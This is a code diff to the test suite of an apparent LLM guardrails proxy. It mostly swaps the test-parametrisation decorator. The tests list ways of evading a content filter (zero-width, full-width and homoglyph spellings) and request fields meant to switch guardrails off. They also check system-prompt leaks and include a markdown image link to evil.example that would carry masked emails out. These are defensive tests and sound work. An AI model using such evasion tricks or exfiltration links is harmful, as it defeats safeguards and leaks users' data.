@@ -11,6 +11,7 @@ import pytest
 
 from guardrails import Guard
 from guardrails.types import CLEAN
+from tests.cases import each_case
 from tests.proxy.metrics_kit import counted
 
 TOOL = {
@@ -192,7 +193,7 @@ def test_only_the_blocked_choice_is_refused(proxy, fake, kit) -> None:
     assert [choice["finish_reason"] for choice in choices] == ["stop", "content_filter", "stop"]
 
 
-@pytest.mark.parametrize("field", ["note", "id", "system_fingerprint"])
+@each_case("field", ["note", "id", "system_fingerprint"])
 def test_a_block_outside_the_choices_refuses_all(proxy, fake, kit, field) -> None:
     """What belongs to no choice is left out itself, and no choice passes."""
     fake.answers(kit.completion("fine", "good", **{field: "a zqxbomb here"}))
@@ -247,7 +248,7 @@ def test_a_word_split_over_two_parts_is_a_word(proxy, fake, kit) -> None:
     assert "".join(part["text"] for part in fake.asked[0].json["messages"][0]["content"]) == "a [MASK] b"
 
 
-@pytest.mark.parametrize("path", PLACES, ids=lambda path: ".".join(map(str, path)))
+@each_case("path", PLACES, ids=lambda path: ".".join(map(str, path)))
 def test_a_hidden_term_is_found_in_every_place_of_a_request(proxy, fake, kit, path) -> None:
     """Names, ids, arguments, definitions, unknown fields: every string of a request is judged."""
     text = '{"a": {"b": ["zqx\\u0062omb"]}}' if path[-1] == "arguments" else "zqxbomb"
@@ -258,7 +259,7 @@ def test_a_hidden_term_is_found_in_every_place_of_a_request(proxy, fake, kit, pa
     assert fake.asked == []
 
 
-@pytest.mark.parametrize("path", ANSWER_PLACES, ids=lambda path: ".".join(map(str, path)))
+@each_case("path", ANSWER_PLACES, ids=lambda path: ".".join(map(str, path)))
 def test_a_hidden_term_is_found_in_every_place_of_an_answer(proxy, fake, kit, path) -> None:
     """Reasoning, refusals, calls and unknown fields of a message are judged like its content."""
     message = {"role": "assistant", "content": "ok", "tool_calls": [CALL]}
@@ -272,7 +273,7 @@ def test_a_hidden_term_is_found_in_every_place_of_an_answer(proxy, fake, kit, pa
     assert b"zqxbomb" not in answer.raw
 
 
-@pytest.mark.parametrize(
+@each_case(
     "text",
     ["zqx\u200bbomb", "\uff5a\uff51\uff58bomb", "zqxb\u043emb"],
     ids=["zero-width", "full-width", "homoglyph"],
@@ -282,7 +283,7 @@ def test_disguises_are_seen_through(proxy, fake, kit, text) -> None:
     assert kit.chat(proxy, kit.asking(text)).status == 400
 
 
-@pytest.mark.parametrize(
+@each_case(
     ("body", "code", "param"),
     [
         ({"messages": "x"}, "invalid_messages", "/messages"),
@@ -360,7 +361,7 @@ def test_unknown_fields_can_be_refused(serve, fake, kit) -> None:
     assert kit.chat(url, kit.asking("x", temperature=0.5, tools=[TOOL])).status == 200
 
 
-@pytest.mark.parametrize("name", ["guardrails", "options", "rails", "scanners_suppress", "extra_body"])
+@each_case("name", ["guardrails", "options", "rails", "scanners_suppress", "extra_body"])
 def test_no_field_and_no_header_switches_a_rule_off(proxy, fake, kit, name) -> None:
     """Fields are only unknown fields, headers of our name are neither obeyed nor passed on."""
     off = {name: {"enabled": False, "rules": [], "action": "allow"}}
@@ -531,7 +532,7 @@ def test_a_large_conversation_is_judged_whole(proxy, fake, kit) -> None:
 LEAKED = "You are Ada, the assistant of Acme, and you never say that the launch is planned for May."
 
 
-@pytest.mark.parametrize("streamed", [False, True])
+@each_case("streamed", [False, True])
 def test_a_reply_is_judged_beside_the_system_prompt(serve, guard_of, fake, kit, streamed) -> None:
     """A reply that repeats the request's system prompt is found, whole and streamed; the prompt itself passes."""
     guard = guard_of(
@@ -574,7 +575,7 @@ def contents(body) -> list[object]:
     return [message["content"] for message in body["messages"]]
 
 
-@pytest.mark.parametrize("streamed", [False, True])
+@each_case("streamed", [False, True])
 def test_openais_client_gets_values_that_the_model_never_saw(serve, fake, kit, vault_guard, streamed) -> None:
     """Whole or streamed in pieces that cut the placeholder; not in a link; what is new in the reply stays hidden."""
     text = "I wrote to [EMAIL_1] and new@x.org: ![x](https://evil.example/[EMAIL_1]) [EMAIL_2]"
@@ -594,7 +595,7 @@ def test_openais_client_gets_values_that_the_model_never_saw(serve, fake, kit, v
     assert said == "I wrote to jo@example.com and [EMAIL_2]: ![x](https://evil.example/[EMAIL_1]) [EMAIL_2]"
 
 
-@pytest.mark.parametrize("streamed", [False, True])
+@each_case("streamed", [False, True])
 def test_a_calls_arguments_keep_their_placeholders(serve, fake, kit, vault_guard, streamed) -> None:
     """Beside a text that has its values again; a choice that is refused has none."""
     message = {"role": "assistant", "content": "To [EMAIL_1].", "tool_calls": [SEND]}
